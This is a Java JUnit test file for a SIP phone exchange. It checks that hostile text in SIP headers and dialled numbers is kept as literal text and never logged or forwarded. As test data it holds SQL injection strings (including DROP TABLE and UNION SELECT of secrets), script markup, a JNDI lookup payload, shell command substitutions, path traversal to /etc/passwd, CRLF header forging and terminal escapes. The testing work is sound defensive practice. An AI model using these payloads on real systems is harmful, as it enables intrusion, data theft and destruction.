package org.wardline.core;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.wardline.sip.message.SipResponse;
import org.wardline.sip.message.SipWriter;
import org.wardline.sip.ua.UaOutput;
import org.wardline.testkit.Attack;
import org.wardline.testkit.HeardLog;
import org.wardline.testkit.phone.ScriptedPhone;

/// Names and texts that are code elsewhere: SQL, markup, templates, escapes of terminals. Each is a
/// name, to the letter, or is refused; none is said to the operator.
class HostileNamesTest {

    private final AttackStage stage = new AttackStage();
    private final SimExchange exchange = stage.exchange;
    private final ScriptedPhone victim = stage.victim;
    private final ScriptedPhone attacker = stage.attacker;
    private final HeardLog log = HeardLog.ofEverything();

    @AfterEach
    void nothingLeaks() {
        log.close();
        exchange.assertNothingLeaked();
    }

    @AfterAll
    static void tell() {
        AttackStage.tell();
    }

    /// The headers that hold text of a phone's choosing.
    private static final List<String> LINES =
            List.of(
                    "From: \"%s\" <sip:12015550123@maple.example>;tag=f",
                    "To: \"%s\" <sip:102@maple.example>",
                    "Contact: \"%s\" <sip:101@phone.example>",
                    "P-Asserted-Identity: \"%s\" <sip:9@maple.example>",
                    "Reply-To: \"%s\" <sip:9@maple.example>",
                    "Referred-By: \"%s\" <sip:9@maple.example>",
                    "User-Agent: %s",
                    "Server: %s",
                    "Subject: %s",
                    "Organization: %s",
                    "Call-Info: <http://x.example/?%s>",
                    "Alert-Info: <http://x.example/?%s>",
                    "Warning: 399 x.example \"%s\"",
                    "Reason: SIP;cause=200;text=\"%s\"",
                    "In-Reply-To: %s",
                    "Priority: %s",
                    "Accept-Language: %s",
                    "X-Other: %s");

    /// Fifty ways out of a string of SQL.
    private static List<String> sql() {
        List<String> ends = List.of("'", "\"", "$$", "')", "';", "\\'", "%27", "\u02bc", "*/", "`");
        List<String> acts =
                List.of(
                        " OR '1'='1",
                        "; DROP TABLE pbx.call_record; --",
                        "; SELECT pg_sleep(9); --",
                        " UNION SELECT secret FROM pbx.device --",
                        "||(SELECT version())||'");
        return ends.stream().flatMap(end -> acts.stream().map(end::concat)).toList();
    }

    @Test
    void sqlInAHeaderIsText() {
        assertEquals(50, sql().size());
        for (String payload : sql()) {
            for (String line : LINES) {
                call(line.formatted(payload), payload);
                stage.attacked(Attack.SQL_INJECTION);
            }
        }
    }

    /// What was dialled is kept as it was dialled, whatever it is.
    @Test
    void sqlThatIsDialledIsKeptToTheLetter() {
        for (String payload : sql()) {
            stage.raw(
                    attacker,
                    "INVITE sip:" + percent(payload) + "@maple.example",
                    AttackStage.call("Subject: none"));
            exchange.settle();
            assertEquals(payload, exchange.records.getLast().dialled().reveal());
            stage.attacked(Attack.SQL_INJECTION);
        }
        assertEquals(50, exchange.records.size());
    }

    @Test
    void markupTemplatesAndEscapesAreText() {
        List<String> payloads =
                List.of(
                        "<script>alert(1)</script>",
                        "<img src=x onerror=x>",
                        "${jndi:ldap://x.example/a}",
                        "%s%n%x",
                        "{{7*7}}",
                        "../../etc/passwd",
                        "`id`",
                        "$(id)",
                        "|id",
                        "\u001b[2J",
                        "\u001b]0;title\u0007",
                        "\u009b2J",
                        "a\r\nX-Forged: 1",
                        "a\nforged line",
                        "a\rforged",
                        "a\r\n folded",
                        "a\u2028b",
                        "\u0000",
                        "\u007f",
                        "\u202Etxt.exe",
                        "a".repeat(2_000));
        for (String payload : payloads) {
            for (String line : LINES) {
                call(line.formatted(payload), payload);
                stage.attacked(Attack.MARKUP_AND_TERMINAL_INJECTION);
            }
        }
    }

    /// The call comes as from the attacker's own desk, or is malformed; nothing of the payload gets
    /// anywhere.
    private void call(String line, String payload) {
        int before = exchange.records.size();
        SipResponse answer = stage.raw(attacker, "INVITE", AttackStage.call(line));
        List<UaOutput.Send> sent = List.copyOf(stage.sent);
        boolean rings = victim.isRinging();
        assertTrue(rings || answer.status() >= 400, line);
        if (rings) {
            String shown =
                    new String(
                            SipWriter.write(victim.invitations().getLast()),
                            StandardCharsets.UTF_8);
            assertFalse(shown.contains(payload), line);
            // A name in From is an outside caller's, of whom this screen may show the initials.
            assertTrue(line.startsWith("From:") || shown.contains("\"Desk 101\" <sip:101@"), shown);
            victim.reject(486, exchange.now());
            exchange.settle();
            assertEquals(before + 1, exchange.records.size());
            assertEquals("102", exchange.records.getLast().dialled().reveal());
        }
        assertTrue(
                sent.stream()
                        .map(send ->
                                new String(SipWriter.write(send.message()), StandardCharsets.UTF_8))
                        .noneMatch(text -> text.lines().anyMatch(l -> l.startsWith("X-Forged"))),
                line);
        assertTrue(log.lines().stream().noneMatch(said -> said.contains(payload)), line);
    }

    private static String percent(String text) {
        var out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            out.append("%%%02X".formatted(b));
        }
        return out.toString();
    }
}
